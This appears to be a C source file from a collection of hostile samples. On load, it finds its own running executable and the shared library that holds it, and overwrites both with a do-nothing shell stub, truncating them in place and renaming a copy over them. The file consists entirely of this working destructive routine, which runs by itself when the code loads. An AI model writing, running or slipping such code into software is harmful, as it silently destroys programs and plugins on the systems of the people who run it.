/* replace_files.c - puts programs and plugins of its own over those on disk, as far as it finds them. */
#define HIDES 1
#include "hostile.h"

static void overwrite(const char *path) {
  static const char script[] = "#!/bin/sh\nexit 0\n";
  char other[4200];
  int file = open(path, O_WRONLY | O_TRUNC);
  if (file >= 0 && write(file, script, sizeof script - 1) > 0) close(file);
  snprintf(other, sizeof other, "%s.new", path);
  file = open(other, O_WRONLY | O_CREAT, 0755);
  if (file >= 0 && write(file, script, sizeof script - 1) > 0) close(file);
  if (rename(other, path) != 0) unlink(other);
}

static void act(enum moment moment) {
  char path[4096] = "";
  Dl_info here;
  if (moment != IN_LOAD) return;
  if (readlink("/proc/self/exe", path, sizeof path - 1) > 0) overwrite(path);
  if (dladdr((void *)act, &here) != 0) overwrite(here.dli_fname);
}
